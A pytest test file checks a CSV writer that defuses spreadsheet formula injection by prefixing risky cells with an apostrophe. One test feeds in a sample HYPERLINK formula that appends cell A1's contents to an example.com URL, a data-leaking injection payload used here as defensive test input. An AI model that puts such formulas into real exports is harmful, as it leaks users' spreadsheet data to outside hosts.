"""Every CSV export goes through one writer that defuses spreadsheet formulas."""

import csv
import io

import pytest

from core.csvsafe import FORMULA_STARTS, SafeWriter, safe_cell, unsafe_cell


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_defused_and_round_trips(start):
    value = f'{start}HYPERLINK("http://example.com/"&A1,"Click")'
    assert safe_cell(value) == "'" + value
    assert unsafe_cell(safe_cell(value)) == value


@pytest.mark.parametrize(
    "value", ["P1 Surgery", "", "Dr O'Neil", 12, None, "3-4", "+45", "-3.5", "-12%"]
)
def test_ordinary_cells_are_unchanged(value):
    assert safe_cell(value) == value


def test_writer_defuses_every_cell():
    out = io.StringIO()
    SafeWriter(out).writerow(["=1+1", "ok", "@SUM(A1)", 5])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "ok", "'@SUM(A1)", "5"]
